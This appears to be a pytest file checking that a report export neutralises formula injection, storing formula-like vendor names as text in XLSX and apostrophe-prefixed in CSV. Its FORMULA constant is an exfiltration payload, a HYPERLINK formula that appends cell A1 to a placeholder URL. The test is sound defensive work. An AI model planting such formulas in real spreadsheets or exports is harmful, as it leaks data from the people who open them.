"""Formula injection in the report lab's export: a parent vendor named like a formula, grouped, is text in
the XLSX (typed as text, not a live formula in A2) and quoted in the CSV (apps/common/spreadsheet.py)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from apps.suppliers.models import ParentVendor
from apps.tenancy.context import tenant_context

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://x/?"&A1,"c")'
DEFINITION = {
    "dataset": "cartons",
    "group_by": ["parent_vendor"],
    "measures": [{"field": "id", "agg": "count"}],
}


def test_report_export_writes_a_formula_like_name_as_text(api, lab):
    with tenant_context(lab.tenant3):
        ParentVendor.objects.filter(name="Ningbo Bluewave Cartons").update(name=FORMULA)
    client = api(lab.admin, lab.tenant3)
    xlsx = client.post("/api/reports/export/?format=xlsx", DEFINITION, format="json")
    assert xlsx.status_code == 200
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    names = [
        row[0] for row in sheet.iter_rows(min_row=2) if row[0].value and "HYPERLINK" in str(row[0].value)
    ]
    assert names, [[c.value for c in r] for r in sheet.iter_rows()]
    assert all(cell.data_type == "s" and cell.value == "'" + FORMULA for cell in names)

    response = client.post("/api/reports/export/?format=csv", DEFINITION, format="json")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[0] for row in rows if "HYPERLINK" in row[0]] == ["'" + FORMULA]
